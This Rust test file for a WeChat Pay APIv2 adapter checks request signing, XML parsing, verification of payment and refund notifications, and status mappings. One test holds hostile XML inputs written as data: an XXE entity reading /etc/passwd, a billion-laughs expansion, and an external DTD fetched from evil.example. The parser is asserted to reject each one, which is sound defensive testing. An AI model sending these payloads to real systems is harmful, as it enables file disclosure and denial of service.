//! APIv2: the published sign vector, XML hygiene (XXE, billion laughs),
//! notification verification, refund `req_info` (wechatpy's vector), acks.

use super::tests::{ctx_with, APPID};
use super::v2::sign::{self, SignType};
use super::v2::{notify, wire};
use super::xml::{self, Fields};
use super::*;
use serde_json::json;

pub(super) const MCH_ID: &str = "10000100";
pub(super) const API_KEY: &str = "192006250b4c09247ec02edce69f6a2d";

pub(super) fn v2_ctx(sign_type: &str) -> ChannelContext {
    ctx_with(
        json!({"api_version": "v2", "mch_id": MCH_ID, "appid": APPID, "sign_type": sign_type}),
        &[("api_key", API_KEY)],
    )
}

pub(super) fn signed(mut f: Fields, t: SignType) -> String {
    if t == SignType::HmacSha256 {
        f.insert("sign_type".into(), "HMAC-SHA256".into());
    }
    let s = sign::sign(&f, API_KEY, t);
    f.insert("sign".into(), s);
    xml::render(&f)
}

fn fields(pairs: &[(&str, &str)]) -> Fields {
    pairs.iter().map(|(k, v)| ((*k).to_owned(), (*v).to_owned())).collect()
}

fn pay_notify(mch_id: &str) -> Fields {
    fields(&[
        ("appid", APPID),
        ("mch_id", mch_id),
        ("nonce_str", "5d2b6c2a8db53831f7eda20af46e531c"),
        ("return_code", "SUCCESS"),
        ("result_code", "SUCCESS"),
        ("openid", "oUpF8uMEb4qRXf22hE3X68TekukE"),
        ("trade_type", "NATIVE"),
        ("bank_type", "CFT"),
        ("total_fee", "1234"),
        ("cash_fee", "1234"),
        ("fee_type", "CNY"),
        ("transaction_id", "1004400740201409030005092168"),
        ("out_trade_no", "A10001"),
        ("attach", "支付测试 & <x>"),
        ("time_end", "20260102030405"),
        ("sub_mch_id", ""),
    ])
}

fn raw(body: String) -> RawNotify {
    RawNotify { content_type: "text/xml".into(), headers: vec![], body: body.into_bytes() }
}

#[test]
fn published_sign_vector() {
    let f = fields(&[
        ("appid", "wxd930ea5d5a258f4f"),
        ("mch_id", "10000100"),
        ("device_info", "1000"),
        ("body", "test"),
        ("nonce_str", "ibuaiVcKdpRxkhJA"),
    ]);
    assert_eq!(sign::sign(&f, API_KEY, SignType::Md5), "9A0A8659F005D6984697E2CA0A9CF3B7");
    assert_eq!(
        sign::sign(&f, API_KEY, SignType::HmacSha256),
        "6A9AE1657590FD6257D693A078E1C3E4BB6BA4DC30B23E0EE2496E54170DACD6"
    );
    let mut with_sign = f.clone();
    with_sign.insert("sign".into(), "9A0A8659F005D6984697E2CA0A9CF3B7".into());
    assert!(sign::verify(&with_sign, API_KEY, SignType::Md5).is_ok());
    assert!(sign::verify(&with_sign, API_KEY, SignType::HmacSha256).is_err());
    with_sign.insert("new_field".into(), "x".into());
    assert!(sign::verify(&with_sign, API_KEY, SignType::Md5).is_err(), "unknown fields are signed too");
}

#[test]
fn xml_round_trip_and_entities() {
    let f = fields(&[("a", "x]]>y"), ("b", "<&>\"'"), ("c", "中文"), ("d", "")]);
    assert_eq!(xml::parse(xml::render(&f).as_bytes(), "xml").expect("parse"), f);
    let text = "<?xml version=\"1.0\"?>\n<xml>\n <a>1 &amp; 2 &#x4E2D;&#25991;</a><b/><c><![CDATA[<x>]]></c></xml>";
    let got = xml::parse(text.as_bytes(), "xml").expect("parse");
    assert_eq!(got["a"], "1 & 2 中文");
    assert_eq!(got["b"], "");
    assert_eq!(got["c"], "<x>");
    for bad in [
        "<xml><a>1</a><a>2</a></xml>",
        "<xml><a><b>1</b></a></xml>",
        "<other><a>1</a></other>",
        "<xml><a>1</a>",
        "<xml><a>&custom;</a></xml>",
        "<xml><a>1</a></xml><xml/>",
        "",
    ] {
        assert!(xml::parse(bad.as_bytes(), "xml").is_err(), "{bad}");
    }
    assert!(xml::parse(b"<xml><a>\xff</a></xml>", "xml").is_err());
}

#[test]
fn hostile_documents_fail_cleanly() {
    let xxe = r#"<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><appid>&xxe;</appid></xml>"#;
    let laughs = r#"<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]><xml><a>&lol9;</a></xml>"#;
    let param_entity = r#"<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><xml/>"#;
    for doc in [xxe, laughs, param_entity] {
        assert!(matches!(xml::parse(doc.as_bytes(), "xml"), Err(ChannelError::Malformed(m)) if m.contains("DOCTYPE")));
    }
    // Through the adapter: rejected, and answered with WeChat's FAIL ack.
    let ch = WechatProducts::new(reqwest::Client::new());
    let ctx = v2_ctx("MD5");
    for doc in [xxe, laughs] {
        let n = raw(doc.to_owned());
        assert!(matches!(ch.pub_qr.parse_notify(&ctx, &n), Err(ChannelError::Malformed(_))));
        assert!(ch.pub_qr.ack(&n, false).body.contains("FAIL"));
    }
}

#[test]
fn pay_notifications_md5_and_hmac() {
    let ch = WechatProducts::new(reqwest::Client::new());
    for (cfg_type, t) in [("MD5", SignType::Md5), ("HMAC-SHA256", SignType::HmacSha256), ("MD5", SignType::HmacSha256)]
    {
        let ctx = v2_ctx(cfg_type);
        let good = signed(pay_notify(MCH_ID), t);
        assert_eq!(
            ch.pub_qr.parse_notify(&ctx, &raw(good.clone())).expect("good"),
            NotifyOutcome::Charge {
                order_no: "A10001".into(),
                amount: 1234,
                status: PaymentStatus::Paid {
                    transaction_no: "1004400740201409030005092168".into(),
                    amount: 1234,
                    time_paid: 1_767_294_245
                }
            }
        );
        let tampered = good.replace("<total_fee><![CDATA[1234]]>", "<total_fee><![CDATA[1]]>");
        assert_ne!(tampered, good);
        assert!(matches!(ch.pub_qr.parse_notify(&ctx, &raw(tampered)), Err(ChannelError::BadSignature(_))));
        let other = signed(pay_notify("10000101"), t);
        assert!(matches!(ch.pub_qr.parse_notify(&ctx, &raw(other)), Err(ChannelError::Mismatch(_))));
        let mut unsigned = pay_notify(MCH_ID);
        unsigned.insert("sign".into(), String::new());
        assert!(ch.pub_qr.parse_notify(&ctx, &raw(xml::render(&unsigned))).is_err());
    }
    let mut failed = pay_notify(MCH_ID);
    failed.insert("result_code".into(), "FAIL".into());
    let ctx = v2_ctx("MD5");
    assert_eq!(ch.pub_qr.parse_notify(&ctx, &raw(signed(failed, SignType::Md5))).ok(), Some(NotifyOutcome::Ignored));
    let n = raw(signed(pay_notify(MCH_ID), SignType::Md5));
    let ack = ch.pub_qr.ack(&n, true);
    assert_eq!(ack.status, 200);
    assert_eq!(
        ack.body,
        "<xml><return_code><![CDATA[SUCCESS]]></return_code><return_msg><![CDATA[OK]]></return_msg></xml>"
    );
    assert!(ch.pub_qr.ack(&n, false).body.starts_with("<xml><return_code><![CDATA[FAIL]]>"));
}

/// wechatpy @ 5b8502e3, tests/test_crypto.py::test_refund_notify_decrypt_message.
#[test]
fn refund_notification_req_info() {
    let key = "OF4Ne3znh8KqL0V4NqmALQa0uXMYKcEk";
    let req_info = super::tests::vector("wechatpy-refund_req_info.b64");
    let inner = notify::decrypt_req_info(key, &req_info).expect("decrypt");
    assert_eq!(inner["out_refund_no"], "1234");
    assert_eq!(inner["refund_id"], "50300103182020010413419046597");
    assert!(notify::decrypt_req_info(API_KEY, &req_info).is_err(), "another API key");

    let ch = WechatProducts::new(reqwest::Client::new());
    let ctx = ctx_with(json!({"api_version": "v2", "mch_id": MCH_ID, "appid": APPID}), &[("api_key", key)]);
    let outer = |mch: &str| {
        raw(xml::render(&fields(&[
            ("return_code", "SUCCESS"),
            ("appid", APPID),
            ("mch_id", mch),
            ("nonce_str", "n"),
            ("req_info", req_info.trim()),
        ])))
    };
    assert_eq!(
        ch.pub_qr.parse_notify(&ctx, &outer(MCH_ID)).expect("refund"),
        NotifyOutcome::Refund {
            refund_id: "1234".into(),
            order_no: "2020010418301551404339261814".into(),
            amount: 1,
            status: RefundStatusReport::Succeeded {
                transaction_no: Some("50300103182020010413419046597".into()),
                time_succeed: 1_578_134_064
            }
        }
    );
    assert!(matches!(ch.pub_qr.parse_notify(&ctx, &outer("10000101")), Err(ChannelError::Mismatch(_))));
    let mut garbled = req_info.trim().to_owned();
    garbled.replace_range(0..4, "AAAA");
    let bad = raw(xml::render(&fields(&[
        ("return_code", "SUCCESS"),
        ("appid", APPID),
        ("mch_id", MCH_ID),
        ("req_info", &garbled),
    ])));
    assert!(ch.pub_qr.parse_notify(&ctx, &bad).is_err());
}

#[test]
fn v2_wire_mappings() {
    let f = |pairs: &[(&str, &str)]| fields(pairs);
    assert_eq!(wire::trade_status(&f(&[("trade_state", "NOTPAY")])).ok(), Some(PaymentStatus::Pending));
    assert_eq!(wire::trade_status(&f(&[("trade_state", "REVOKED")])).ok(), Some(PaymentStatus::Closed));
    assert!(matches!(wire::trade_status(&f(&[("trade_state", "PAYERROR")])), Ok(PaymentStatus::Failed { .. })));
    assert!(wire::trade_status(&f(&[("trade_state", "SUCCESS")])).is_err(), "paid without details");
    assert!(wire::fen(&f(&[("total_fee", "-1")]), "total_fee").is_err());
    assert!(wire::fen(&f(&[("total_fee", "1.5")]), "total_fee").is_err());
    let q = f(&[
        ("refund_count", "2"),
        ("out_refund_no_0", "re_0"),
        ("refund_fee_0", "1"),
        ("refund_status_0", "SUCCESS"),
        ("out_refund_no_1", "re_1"),
        ("refund_fee_1", "100"),
        ("refund_status_1", "PROCESSING"),
    ]);
    assert_eq!(wire::refund_status(&q, "re_1", 100).ok(), Some(RefundStatusReport::Pending));
    assert!(matches!(wire::refund_status(&q, "re_1", 99), Err(ChannelError::Mismatch(_))));
    assert!(matches!(wire::refund_status(&q, "re_9", 100), Err(ChannelError::Mismatch(_))));
    let e = |code: &str| wire::business_error(&f(&[("err_code", code), ("err_code_des", "d")]), "x");
    assert!(matches!(e("SYSTEMERROR"), ChannelError::Unavailable(_)));
    assert!(matches!(e("SIGNERROR"), ChannelError::Config(_)));
    assert!(matches!(e("AUTHCODEEXPIRE"), ChannelError::Refused { code, .. } if code == "AUTHCODEEXPIRE"));
}
